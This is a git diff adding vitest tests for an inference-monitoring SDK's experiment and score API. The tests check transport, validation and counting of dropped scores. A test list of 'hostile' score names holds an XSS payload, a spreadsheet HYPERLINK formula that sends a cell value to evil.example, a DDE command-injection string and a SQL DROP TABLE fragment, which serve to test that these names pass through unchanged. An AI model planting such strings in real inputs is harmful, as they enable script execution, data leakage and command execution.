@@ -8,7 +8,7 @@ import { pathToFileURL } from 'node:url';
 import { promisify } from 'node:util';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import type { InferenceReceiver } from '../../agent/inference/receiver.js';
-import { EXPERIMENT_ID_RE, formatTimingLine, MODEL_NAME_RE, parseTimingLine, type Timing } from '../../shared/inference.js';
+import { EXPERIMENT_ID_RE, formatTimingLine, MODEL_NAME_RE, parseTimingLine, SCORE_NAME_RE, type Timing } from '../../shared/inference.js';
 import * as sdk from '../../sdk/index.js';
 import { createClient, encodeTimingLine, type EdgewatchClient } from '../../sdk/index.js';
 import { REPO_ROOT } from '../helpers/processes.js';
@@ -38,6 +38,15 @@ afterEach(async () => {
 });
 
 const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));
+
+/** Score names a hub must escape, not the SDK or the agent: they travel as they are. */
+const HOSTILE_NAMES = [
+  '<img src=x onerror=alert(1)>',
+  '=HYPERLINK("http://evil.example/?q="&A1,"click")',
+  '+cmd|\' /C calc\'!A0',
+  'top-1 (ImageNet) — 精度 ✓ 🚀',
+  '"quoted", \\back\\slash; DROP TABLE scores',
+];
 
 describe.each(['udp', 'http'] as const)('timings over %s', (transport) => {
   it('arrive with model, latency, batch, tags and t, several per datagram or request', async () => {
@@ -185,6 +194,136 @@ describe.each(['udp', 'http'] as const)('timings over %s', (transport) => {
     }
   });
 
+  it('score() sends quality scores into the open experiment before it ends, and startExperiment() its warm-up', async () => {
+    const ew = client({ transport });
+    const id = await ew.startExperiment({ name: 'int8 top-1', warmup: { calls: 20 } });
+    expect(id).toMatch(EXPERIMENT_ID_RE);
+    ew.score('top1', 0.912);
+    ew.score('WER', 7.25, { better: 'lower' });
+    ew.score('top5', 0.99, { better: 'higher' });
+    HOSTILE_NAMES.forEach((name, i) => ew.score(name, i + 0.5, { better: i % 2 ? 'lower' : 'higher' }));
+    ew.score('big', -1.7976931348623157e308);
+    // No await in between: the end must still come after every score.
+    expect(await ew.endExperiment(id!)).toBe(true);
+    const sent = [
+      { name: 'top1', value: 0.912, better: 'higher' },
+      { name: 'WER', value: 7.25, better: 'lower' },
+      { name: 'top5', value: 0.99, better: 'higher' },
+      ...HOSTILE_NAMES.map((name, i) => ({ name, value: i + 0.5, better: i % 2 ? 'lower' : 'higher' })),
+      { name: 'big', value: -1.7976931348623157e308, better: 'higher' },
+    ];
+    expect(sink.scores.flatMap((b) => b.scores)).toEqual(sent);
+    expect(sink.scores.every((b) => b.id === id)).toBe(true);
+    // Scores of one tick share a request.
+    expect(sink.scores).toHaveLength(1);
+    expect(sink.experiments).toEqual([{ id, start: { name: 'int8 top-1', warmup: { calls: 20 } }, startedAt: expect.any(Number), endedAt: expect.any(Number) }]);
+    expect(ew.stats()).toMatchObject({ sent: sent.length, dropped: 0, invalid: 0, errors: 0 });
+    expect(receiver.stats().rejected).toBe(0);
+
+    // A time-based warm-up (ms rounded to the whole ms the agent takes); a later score of the same name replaces the earlier.
+    const timed = await ew.startExperiment({ name: 'fp16', warmup: { ms: 2500.4 } });
+    ew.score('top1', 0.5);
+    await ew.flush();
+    ew.score('top1', 0.75);
+    ew.score('top1', 0.8);
+    await ew.endExperiment(timed!);
+    expect(sink.experiments[1]!.start).toEqual({ name: 'fp16', warmup: { ms: 2500 } });
+    expect(sink.scores.slice(1).map((b) => [b.id, b.scores.map((x) => x.value)])).toEqual([
+      [timed, [0.5]],
+      [timed, [0.75]],
+      [timed, [0.8]],
+    ]);
+
+    // An explicit experiment id wins over the open one.
+    const a = await ew.startExperiment({ name: 'a' });
+    const b = await ew.startExperiment({ name: 'b' });
+    expect(ew.experiment).toBe(b);
+    ew.score('top1', 1, { experiment: a! });
+    ew.score('top1', 2);
+    await ew.flush();
+    expect(sink.scores.slice(4)).toEqual([
+      { id: a, scores: [{ name: 'top1', value: 1, better: 'higher' }] },
+      { id: b, scores: [{ name: 'top1', value: 2, better: 'higher' }] },
+    ]);
+  });
+
+  it('drops and counts invalid scores, scores without an experiment and bad warm-ups, never throwing', async () => {
+    const ew = client({ transport });
+    // No experiment open (and the environment ignored): dropped, not invalid.
+    expect(() => ew.score('top1', 0.9)).not.toThrow();
+    expect(ew.stats()).toMatchObject({ dropped: 1, invalid: 0 });
+
+    const id = await ew.startExperiment({ name: 'scored' });
+    const bad: [unknown, unknown, unknown?][] = [
+      ['top1', NaN],
+      ['top1', Infinity],
+      ['top1', -Infinity],
+      ['top1', '1e999'],
+      ['top1', '0.9'],
+      ['top1', null],
+      ['top1', 10n],
+      ['top1', true],
+      ['top1', 1, { better: 'more' }],
+      ['top1', 1, { better: 'Higher' }],
+      ['top1', 1, { experiment: 'not valid!' }],
+      ['top1', 1, { experiment: null }],
+      ['tab\there', 1],
+      ['new\nline', 1],
+      ['nul\u0000', 1],
+      ['del\u007f', 1],
+      ['', 1],
+      ['x'.repeat(65), 1],
+      [undefined, 1],
+      [42, 1],
+      ['top1', 1, { get better(): string { throw new Error('getter'); } }],
+    ];
+    for (const [name, value, opts] of bad) expect(() => ew.score(name as string, value as number, opts as sdk.ScoreOptions)).not.toThrow();
+    // 64 characters are fine, counted as code points as the agent does.
+    ew.score('🚀'.repeat(64), 1);
+    // Well-formed, but an experiment the agent does not know: the agent's 404 is a failed send.
+    ew.score('top1', 1, { experiment: 'x-unknown' });
+    await ew.flush();
+    expect(sink.scores).toEqual([{ id, scores: [{ name: '🚀'.repeat(64), value: 1, better: 'higher' }] }]);
+    expect(ew.stats()).toMatchObject({ sent: 1, invalid: bad.length, dropped: 1 + bad.length + 1, errors: 1 });
+    expect(receiver.stats().rejected).toBe(0);
+
+    // A bad warm-up: nothing is started (like bad params), and nothing is thrown.
+    for (const warmup of [{ calls: 0 }, { calls: 1.5 }, { calls: 1_000_001 }, { ms: 0 }, { ms: NaN }, { ms: 86_400_001 }, { calls: 1, ms: 1 }, { seconds: 5 }, {}, 20, '5s', null]) {
+      expect(await ew.startExperiment({ name: 'bad warm-up', warmup: warmup as sdk.Warmup }), JSON.stringify(warmup)).toBeNull();
+    }
+    expect(sink.experiments).toHaveLength(1);
+    await ew.endExperiment(id!);
+    // After the end, and after close: dropped.
+    ew.score('late', 1, { experiment: id! });
+    await ew.flush();
+    await ew.close();
+    ew.score('closed', 1, { experiment: id! });
+    expect(ew.stats()).toMatchObject({ sent: 1, dropped: 1 + bad.length + 1 + 2, errors: 2 });
+    expect(sink.scores).toHaveLength(1);
+  });
+
+  it('score() goes into EDGEWATCH_EXPERIMENT (or the experiment option) when no experiment of its own is open', async () => {
+    const starter = client({ transport });
+    const id = (await starter.startExperiment({ name: 'from a parent' }))!;
+    const before = process.env.EDGEWATCH_EXPERIMENT;
+    process.env.EDGEWATCH_EXPERIMENT = id;
+    try {
+      const fromEnv = createClient({ port, transport });
+      clients.push(fromEnv);
+      fromEnv.score('env', 1);
+      client({ transport, experiment: id }).score('option', 2, { better: 'lower' });
+      await Promise.all(clients.map((c) => c.flush()));
+      expect(sink.scores.flatMap((b) => b.scores.map((x) => [b.id, x.name, x.value, x.better])).sort()).toEqual([
+        [id, 'env', 1, 'higher'],
+        [id, 'option', 2, 'lower'],
+      ]);
+    } finally {
+      if (before === undefined) delete process.env.EDGEWATCH_EXPERIMENT;
+      else process.env.EDGEWATCH_EXPERIMENT = before;
+    }
+    expect(await starter.endExperiment(id)).toBe(true);
+  });
+
   it('never throws or blocks when nothing listens, and counts what it drops', async () => {
     const ew = client({ transport, port: await deadPort() });
     const started = performance.now();
@@ -205,6 +344,10 @@ describe.each(['udp', 'http'] as const)('timings over %s', (transport) => {
     }
     expect(ew.stats().errors).toBeGreaterThan(0);
     expect(sink.timings).toHaveLength(0);
+    const dropped = ew.stats().dropped;
+    expect(() => ew.score('top1', 1, { experiment: 'x-nope' })).not.toThrow();
+    await ew.flush();
+    expect(ew.stats().dropped).toBeGreaterThanOrEqual(dropped + 1);
   });
 
   it('keeps working when the agent goes away mid-run', async () => {
@@ -297,6 +440,13 @@ describe('module-level helpers', () => {
       await sdk.flush();
       await until('two timings', () => sink.timings.length === 2);
       expect(sink.timings[0]).toEqual({ model: 'one-liner', latencyMs: 7, batch: 3 });
+      const id = await sdk.startExperiment({ name: 'module level', warmup: { calls: 5 } });
+      sdk.score('top1', 0.5);
+      sdk.score('mAP', 0.25, { better: 'higher', experiment: id! });
+      expect(() => sdk.score('bad\u0000', 1)).not.toThrow();
+      expect(await sdk.endExperiment(id!)).toBe(true);
+      expect(sink.experiments[0]!.start).toEqual({ name: 'module level', warmup: { calls: 5 } });
+      expect(sink.scores).toEqual([{ id, scores: [{ name: 'top1', value: 0.5, better: 'higher' }, { name: 'mAP', value: 0.25, better: 'higher' }] }]);
     } finally {
       await sdk.getDefaultClient().close();
       if (before === undefined) delete process.env.EDGEWATCH_INFERENCE_PORT;
@@ -309,6 +459,8 @@ describe('wire format', () => {
   it('uses the same name rules and line encoding as shared/inference.ts', () => {
     expect(sdk.MODEL_NAME_RE.source).toBe(MODEL_NAME_RE.source);
     expect(sdk.EXPERIMENT_ID_RE.source).toBe(EXPERIMENT_ID_RE.source);
+    expect(sdk.SCORE_NAME_RE.source).toBe(SCORE_NAME_RE.source);
+    expect(sdk.SCORE_NAME_RE.flags).toBe(SCORE_NAME_RE.flags);
     const cases: Timing[] = [
       { model: 'resnet18-int8', latencyMs: 12.37 },
       { model: 'a/b:c@d+e_f.g', latencyMs: 0, batch: 1_000_000, experiment: 'x-lq2v3k-9f3a', t: 1_700_000_000_123, tags: { device: 'cpu', 'k.e-y_1': 'v=w' } },
@@ -350,6 +502,27 @@ describe('the bundle dist/sdk.mjs (edgewatch/sdk)', () => {
     expect(performance.now() - started).toBeLessThan(5000);
     await until('two timings from the child', () => sink.timings.length === 2);
     expect(sink.timings[0]).toEqual({ model: 'from-child', latencyMs: 1.5, tags: { via: 'package-export' } });
+  });
+
+  it('delivers scores from a process that just ends, into EDGEWATCH_EXPERIMENT', async () => {
+    const starter = client();
+    const id = (await starter.startExperiment({ name: 'parent', warmup: { ms: 1000 } }))!;
+    const script = `
+      import { score } from 'edgewatch/sdk';
+      score('top1', 0.912);
+      score(${JSON.stringify(HOSTILE_NAMES[0])}, 1, { better: 'lower' });
+      score('bad', NaN);
+      console.log('ok');
+    `;
+    const { stdout } = await run(process.execPath, ['--input-type=module', '-e', script], {
+      cwd: REPO_ROOT,
+      env: { ...process.env, EDGEWATCH_INFERENCE_PORT: String(port), EDGEWATCH_EXPERIMENT: id },
+      timeout: 10_000,
+    });
+    expect(stdout.trim()).toBe('ok');
+    // Sent before the process ended: nothing to wait for here.
+    expect(sink.scores).toEqual([{ id, scores: [{ name: 'top1', value: 0.912, better: 'higher' }, { name: HOSTILE_NAMES[0], value: 1, better: 'lower' }] }]);
+    expect(await starter.endExperiment(id)).toBe(true);
   });
 
   it('lets a process with the agent down end at once', async () => {
